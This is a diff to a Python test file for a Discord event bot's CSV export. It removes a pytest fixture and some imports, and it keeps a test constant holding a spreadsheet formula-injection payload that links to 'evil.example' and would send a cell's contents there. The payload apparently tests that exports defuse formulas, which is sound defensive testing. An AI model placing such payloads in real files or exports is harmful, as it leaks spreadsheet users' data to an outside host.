@@ -4,22 +4,10 @@ from __future__ import annotations
 
 import csv
 import io
-from collections.abc import AsyncIterator
-from pathlib import Path
 
-import pytest
-
-from tests.on_discord.conftest import TALK_1_LIVE, Event, MovableClock, running_event
+from tests.on_discord.conftest import Event
 
 FORMULA_QUESTION = '=HYPERLINK("http://evil.example/?"&A1,"Is this safe?")'
-
-
-@pytest.fixture
-async def event(tmp_path: Path) -> AsyncIterator[Event]:
-    async with running_event(tmp_path, MovableClock(TALK_1_LIVE)) as running:
-        await running.emu.wait_for_message(running.announcements, lambda m: "Invited Talk 1" in m.content)
-        await running.emu.wait_until(lambda: running.chair.announcer is not None and not running.chair.announcer.busy())
-        yield running
 
 
 async def exported_file(event: Event, fmt: str) -> str:
